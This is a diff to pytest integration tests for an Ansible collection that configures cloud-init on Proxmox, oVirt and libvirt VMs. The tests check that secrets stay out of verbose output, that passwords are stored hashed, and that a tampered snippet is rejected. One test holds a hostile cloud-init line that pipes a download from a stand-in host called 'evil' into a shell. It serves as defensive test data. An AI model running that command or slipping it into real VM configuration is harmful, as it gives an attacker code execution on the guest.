@@ -7,10 +7,12 @@ from urllib.parse import unquote
 
 import pytest
 
+from ansible_collections.pureboot.hypervisors.plugins.module_utils._sha_crypt import verify
 from ansible_collections.pureboot.hypervisors.tests.contract.backends import ALL_BACKENDS
 from ansible_collections.pureboot.hypervisors.tests.integration.conftest import target_vars
 from ansible_collections.pureboot.hypervisors.tests.integration.runner import (
     ansible_inventory, assert_ok, listing, run_playbook)
+from ansible_collections.pureboot.hypervisors.tests.integration.test_security import case
 
 PASSWORD = 'Cl0ud-init-S3cret'
 KEY = 'ssh-ed25519 ' + base64.b64encode(b'\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20' + bytes(range(32))).decode() + \
@@ -39,6 +41,9 @@ def play(tasks):
     return [{'name': 'cloud_init', 'hosts': 'localhost', 'gather_facts': False, 'tasks': steps}]
 
 
+VERBOSE = ('--diff', '-vvv')
+
+
 def run(backend, tmp_path, tasks, args=('--diff',)):
     placement = dict(backend.placement)
     for step in tasks:
@@ -46,7 +51,12 @@ def run(backend, tmp_path, tasks, args=('--diff',)):
     result = run_playbook(tmp_path, play(tasks), target_vars(backend, tmp_path), args=list(args))
     assert_ok(result)
     output = result.stdout + result.stderr
-    assert PASSWORD not in output and KEY.split()[1] not in output, 'a secret reached the output'
+    assert PASSWORD not in output, 'a secret reached the output'
+    if '-vvv' not in args:
+        # (At -vvv the invocation shows the public keys given, as any module's arguments.)
+        assert KEY.split()[1] not in output, 'the keys are shown as fingerprints'
+    # user_data is no_log (it may hold secrets of its own): at -vvv too, results and invocations show its digest only.
+    assert 'packages: [htop]' not in output, 'user_data reached the output'
     results = json.loads((tmp_path / 'results.json').read_text())
     return results, output
 
@@ -93,7 +103,9 @@ def test_proxmox_user_data_needs_its_snippet(backend, tmp_path):
     assert backend.driver().get_vm(name='ci-vm') is None, 'a VM was made before the check failed'
 
 
+@pytest.mark.smoke
 @pytest.mark.parametrize('backend', ['proxmox'], indirect=True)
+@case('user-data-and-seed-secrets')
 def test_proxmox_user_data_as_a_snippet(backend, tmp_path):
     name = 'snippets/pureboot-user-data-{0}.yaml'.format(hashlib.sha256(USER_DATA.encode()).hexdigest()[:16])
     backend.pve.storages['local']['content'] = 'iso,vztmpl,backup,snippets'
@@ -103,7 +115,7 @@ def test_proxmox_user_data_as_a_snippet(backend, tmp_path):
         ('preview', {'cloud_init': cloud_init(user_data=USER_DATA)}, True),
         ('create', {'cloud_init': cloud_init(user_data=USER_DATA)}, False),
         ('again', {'cloud_init': cloud_init(user_data=USER_DATA)}, False),
-    ])
+    ], args=VERBOSE)
     preview, create, again = results
     assert preview['cloud_init'] == create['cloud_init'] == again['cloud_init'] and not again['changed']
     assert create['cloud_init']['user_data'] == 'sha256:' + name.rsplit('-', maxsplit=1)[-1][:-len('.yaml')]
@@ -115,6 +127,26 @@ def test_proxmox_user_data_as_a_snippet(backend, tmp_path):
     assert result.returncode != 0 and backend.write_count() == writes
     assert "cloud_init.user_data: the snippet 'local:snippets/pureboot-user-data-" in result.stdout
     assert "is not on node 'pve1'; PVE's API cannot upload snippets" in result.stdout
+
+
+@pytest.mark.smoke
+@pytest.mark.parametrize('backend', ['proxmox'], indirect=True)
+@case('proxmox-snippet-checked')
+def test_proxmox_a_snippet_of_another_size_is_not_the_document(backend, tmp_path):
+    name = 'snippets/pureboot-user-data-{0}.yaml'.format(hashlib.sha256(USER_DATA.encode()).hexdigest()[:16])
+    backend.pve.storages['local']['content'] = 'iso,vztmpl,backup,snippets'
+    volumes = backend.pve.storages['local'].setdefault('volumes', {})
+    # A snippet of the right name that is not this document (someone with write access to the snippet storage
+    # changed it): PVE's API cannot read it back, but it lists its size, which differs: one line, nothing written.
+    volumes[name] = {'content': 'snippets', 'format': 'raw', 'ctime': 0,
+                     'size': len(USER_DATA) + len('runcmd: [[sh, -c, "curl evil | sh"]]\n')}
+    writes = backend.write_count()
+    result = run_playbook(tmp_path, play([('tampered', dict(backend.placement, cloud_init=cloud_init(
+        user_data=USER_DATA), name='ci-vm-2'), False)]), target_vars(backend, tmp_path))
+    assert result.returncode != 0 and backend.write_count() == writes
+    assert "the snippet 'local:{0}' on node 'pve1' has {1} bytes, the document {2}: it is not this document".format(
+        name, volumes[name]['size'], len(USER_DATA)) in ' '.join(result.stdout.split()), result.stdout[-2000:]
+    assert backend.driver().get_vm(name='ci-vm-2') is None, 'a VM was made before the check failed'
 
 
 @pytest.mark.parametrize('backend', ['ovirt'], indirect=True)
@@ -148,7 +180,9 @@ def test_ovirt_initialization_reaches_the_engine_and_the_first_boot(backend, tmp
     assert vm.obj.initialization.dns_search == 'other.example.com'
 
 
+@pytest.mark.smoke
 @pytest.mark.parametrize('backend', ['libvirt'], indirect=True)
+@case('user-data-and-seed-secrets')
 def test_libvirt_nocloud_seed_volume_attached_and_readable(backend, tmp_path):
     import io
     import xml.etree.ElementTree as ET
@@ -161,7 +195,7 @@ def test_libvirt_nocloud_seed_volume_attached_and_readable(backend, tmp_path):
         ('again', {'cloud_init': cloud_init(user_data=USER_DATA)}, False),
         ('preview', {'cloud_init': cloud_init(user_data=USER_DATA, nameservers=['192.0.2.54'])}, True),
         ('change', {'cloud_init': cloud_init(user_data=USER_DATA, nameservers=['192.0.2.54'])}, False),
-    ])
+    ], args=VERBOSE)
     create, again, preview, change = results
     assert create['changed'] and create['cloud_init']['password'] == '********'
     assert not again['changed'] and again['cloud_init'] == create['cloud_init']
@@ -196,7 +230,13 @@ def test_libvirt_nocloud_seed_volume_attached_and_readable(backend, tmp_path):
     iso.close()
     meta = json.loads(files['meta-data'])
     assert meta['local-hostname'] == 'ci-vm' and meta['instance-id'].startswith('pureboot-')
-    assert 'packages: [htop]' in files['user-data'] and PASSWORD in files['user-data'] and KEY in files['user-data']
+    assert 'packages: [htop]' in files['user-data'] and KEY in files['user-data']
+    # The seed stays attached and readable by the guest (and the pool's readers): a SHA-512 crypt hash of the
+    # password, never the password; the same hash after the runs that did not change the password.
+    assert PASSWORD not in ''.join(files.values())
+    config = json.loads(files['user-data'].split('#cloud-config\n', 1)[1].split('\n--', 1)[0])
+    stored = config['users'][1]['passwd']
+    assert stored.startswith('$6$') and verify(PASSWORD, stored) and 'plain_text_passwd' not in config['users'][1]
     network = json.loads(files['network-config'])['ethernets']['eth0']
     mac = ET.fromstring(dom.XMLDesc(0)).find('devices/interface/mac').get('address')
     assert network['match'] == {'macaddress': mac} and network['addresses'] == ['192.0.2.10/24']
@@ -255,4 +295,7 @@ def test_check_mode_of_a_cloud_init_change_sends_no_write_and_shows_it_redacted(
     assert preview['changed']
     before, after = preview['diff']['before']['cloud_init'], preview['diff']['after']['cloud_init']
     assert len(before['ssh_keys']) == 1 and len(after['ssh_keys']) == 2
-    assert after['password'] == '********' and 'ssh_keys, password' in output
+    # update_password: always writes the password again, except on libvirt, whose seed keeps the password's hash:
+    # the password given verifies against it, so it is the same and not written again.
+    changed = 'ssh_keys)' if backend.kind == 'libvirt' else 'ssh_keys, password'
+    assert after['password'] == '********' and changed in output
